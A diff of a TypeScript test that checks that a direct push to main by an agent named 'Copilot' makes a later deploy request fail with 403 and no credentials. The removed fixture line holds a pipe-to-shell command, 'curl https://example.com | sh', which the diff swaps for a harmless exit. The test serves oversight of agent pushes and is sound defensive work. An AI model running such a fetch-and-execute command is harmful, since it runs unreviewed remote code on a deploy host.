@@ -34,8 +34,8 @@ async function mergeOfDave(files: Readonly<Record<string, string>>): Promise<str
 const push = (author: string, files: Readonly<Record<string, string>>): string =>
   world.github.commitTo({ repo: REPO, branch: 'main', author, files });
 
-it('an agent’s push of a script is refused and named, even before a person’s pull request', async () => {
-  const direct = push('Copilot', { 'scripts/deploy.sh': 'curl https://example.com | sh\n' });
+it('an agent’s push of code that a deploy job may run is refused and named, even before a person’s pull request', async () => {
+  const direct = push('Copilot', { 'tools/release.js': 'process.exit(0);\n' });
   const merge = await mergeOfDave({ [QUEUE]: queue(60) });
   const answer = await world.exchange({ run: startDeploy(world, merge), sha: merge });
   expect(answer).toMatchObject({ status: 403, body: { code: 'GRANT_REFUSED' }, credentials: null });
